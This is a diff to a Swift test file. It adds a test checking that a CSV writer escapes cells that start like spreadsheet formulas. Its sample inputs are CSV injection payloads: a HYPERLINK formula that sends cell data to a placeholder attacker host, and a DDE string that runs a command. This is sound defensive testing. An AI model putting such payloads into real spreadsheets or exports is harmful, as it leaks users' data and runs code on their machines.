@@ -38,6 +38,30 @@ struct WritersTests {
         #expect(text == "title,date,paragraphs,n,images\r\n" + expectedRow + expectedRow)
     }
 
+    /// Issue 13: a citizen's message titled like a formula must not run in Excel or WPS.
+    @Test func csvCellsNeverStartAFormula() {
+        let hostile = [#"=HYPERLINK("http://evil.example/?x="&A1,"点击")"#, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+                       "\t=1+1", "\r=1+1", "=1", "-", "+"]
+        var writer = CSVWriter(byteOrderMark: false)
+        var bytes: [UInt8] = []
+        for (k, title) in hostile.enumerated() {
+            writer.encode(Record([.init("id", .int(k)), .init("title", .string(title)), .init("list", .strings([title, "安全"])),
+                                  .init("score", .double(-3.5)), .init("count", .string("-3.5")), .init("phone", .string("+86"))]), into: &bytes)
+        }
+        var reader = try! CSVReader(bytes: bytes, input: "hostile.csv")
+        var rows = 0
+        while let cells = reader.nextRow() {
+            let title = cells[1], list = cells[2]
+            #expect(title.hasPrefix("'"), "\(title)")
+            #expect(title.dropFirst() == hostile[rows])
+            #expect(list.hasPrefix("'"), "\(list)")
+            #expect(cells[3] == "-3.5" && cells[4] == "-3.5" && cells[5] == "+86", "numbers stay numbers")
+            rows += 1
+        }
+        #expect(rows == hostile.count)
+        for safe in ["政协提案", "1+1", "a=b", "'quoted"] { #expect(CSVWriter.neutralized(safe) == safe) }
+    }
+
     @Test func atomicFileAppearsOnlyOnCommit() throws {
         let folder = try Fixtures.temporaryFolder()
         let path = folder.appendingPathComponent("out.jsonl").path
